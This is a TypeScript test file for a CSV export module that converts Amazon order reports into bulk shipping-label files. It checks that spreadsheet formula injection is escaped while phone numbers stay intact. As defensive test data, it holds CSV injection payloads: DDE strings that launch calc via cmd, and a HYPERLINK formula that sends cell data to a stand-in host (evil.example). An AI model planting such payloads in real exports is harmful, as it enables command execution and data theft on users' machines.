import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BULK_CSV_COLUMNS, type BulkCsvRow } from './constants';
import { convertOrders } from './convert-orders';
import { csvSafeCell, csvTable, toCsv } from './csv';
import { parseAmazonReport } from './parse-report';
import { fixtureText } from './testing/fixtures';

const sender = {
  name: 'Shop',
  street1: '1 Main St',
  city: 'Reno',
  state: 'NV',
  zip: '89501',
  phone: '+1 775-555-0100',
};
const box = { weight: 1, length: 2, width: 3, height: 4 };

function readCsv(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('csvSafeCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['+A1', "'+A1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
    ['- Widget', "'- Widget"],
  ])('escapes %j', (value, escaped) => {
    expect(csvSafeCell(value)).toBe(escaped);
  });

  it.each([
    '+1 555-555-0100',
    '+1 (206) 555-0100',
    '+44 20 7946 0958',
    '-12.50',
    '-5',
    '02134',
    'José Müller',
    'a=b',
    ' =1+1',
    '',
  ])('leaves %j as it is', (value) => {
    expect(csvSafeCell(value)).toBe(value);
  });

  it('writes numbers, booleans and empty values plainly', () => {
    expect([csvSafeCell(-5), csvSafeCell(1.5), csvSafeCell(10n), csvSafeCell(true), csvSafeCell(null)]).toEqual([
      '-5',
      '1.5',
      '10',
      'true',
      '',
    ]);
    expect(csvSafeCell(undefined)).toBe('');
  });
});

describe('csvTable', () => {
  it('quotes like RFC 4180, ends lines with CRLF and reads back unchanged', () => {
    const csv = csvTable(
      ['Transaction ID', 'Amount', 'Description'],
      [
        ['txn_1', -12.5, 'Refund, partial'],
        ['txn_2', 100, 'Said "thanks"'],
        ['txn_3', 0, 'two\nlines'],
        ['txn_4', null, ' padded '],
      ],
    );
    expect(csv).toBe(
      'Transaction ID,Amount,Description\r\ntxn_1,-12.5,"Refund, partial"\r\ntxn_2,100,"Said ""thanks"""\r\n' +
        'txn_3,0,"two\nlines"\r\ntxn_4,," padded "',
    );
    expect(readCsv(csv)).toEqual([
      ['Transaction ID', 'Amount', 'Description'],
      ['txn_1', '-12.5', 'Refund, partial'],
      ['txn_2', '100', 'Said "thanks"'],
      ['txn_3', '0', 'two\nlines'],
      ['txn_4', '', ' padded '],
    ]);
  });

  it('matches the bytes papaparse unparse would write for ordinary cells', () => {
    const header = ['a', 'b', 'c'];
    const data = [
      ['x', 'y,z', 'q"r'],
      [' lead', 'trail ', 'plain'],
    ];
    expect(csvTable(header, data)).toBe(Papa.unparse({ fields: header, data }, { newline: '\r\n' }));
  });
});

describe('toCsv', () => {
  const { rows } = parseAmazonReport(fixtureText('unshipped-orders.txt'));
  const converted = convertOrders(rows, {
    sender,
    dimensions: { 'WIDGET-BLUE-12': box, 'MUG-CER-11OZ': box, 'TSHIRT-M-BLK': box },
  }).rows;

  it('writes the header in the exact bulk column order', () => {
    const csv = toCsv(converted);
    expect(csv.split('\r\n')[0]).toBe(
      'fromName,fromCompany,fromStreet1,fromStreet2,fromCity,fromState,fromZip,fromPhone,toName,toCompany,toStreet1,' +
        'toStreet2,toCity,toState,toZip,toPhone,weight,length,width,height,description,orderNumber,sku,productName',
    );
    expect(toCsv([])).toBe(BULK_CSV_COLUMNS.join(','));
  });

  it('round-trips every row, unicode, commas and quotes included', () => {
    const [header, ...lines] = readCsv(toCsv(converted));
    expect(header).toEqual([...BULK_CSV_COLUMNS]);
    const back = lines.map((cells) => Object.fromEntries(BULK_CSV_COLUMNS.map((column, i) => [column, cells[i]])));
    expect(back).toEqual(converted);
    expect(back[1]).toMatchObject({ toName: '山田太郎', description: 'Ceramic Mug, 11oz "Classic"', toZip: '02134' });
  });

  it('neutralises formula cells from a hostile report but keeps phone numbers usable', () => {
    const report = parseAmazonReport(fixtureText('formula-injection.txt')).rows;
    const hostile = convertOrders(report, { sender, dimensions: { 'EVIL-1': box, '=EVIL-2': box } }).rows;
    expect(hostile).toHaveLength(2);
    const [, first, second] = readCsv(toCsv(hostile));
    const cell = (line: string[] | undefined, column: (typeof BULK_CSV_COLUMNS)[number]): string | undefined =>
      line?.[BULK_CSV_COLUMNS.indexOf(column)];

    expect(cell(first, 'toName')).toBe("'=cmd|' /C calc'!A0");
    expect(cell(first, 'description')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(cell(first, 'toStreet1')).toBe("'@SUM(1+1)");
    expect(cell(first, 'toStreet2')).toBe("'-2+3, +A1");
    expect(cell(first, 'toPhone')).toBe('+1 206-555-0100');
    expect(cell(first, 'fromPhone')).toBe('+1 775-555-0100');
    expect(cell(second, 'sku')).toBe("'=EVIL-2");
    expect(cell(second, 'productName')).toBe("'-Negative Widget");

    expect(first).toHaveLength(BULK_CSV_COLUMNS.length);
    const dangerous = [...(first ?? []), ...(second ?? [])].filter(
      (value) => /^[=+\-@\t\r]/.test(value) && !/^[+-]?[( ]*\d[\d ().-]*$/.test(value),
    );
    expect(dangerous).toEqual([]);
  });

  it('keeps the in-memory rows untouched (escaping happens only in the file)', () => {
    const row = { ...converted[0], toName: '=1+1' } as BulkCsvRow;
    toCsv([row]);
    expect(row.toName).toBe('=1+1');
  });
});
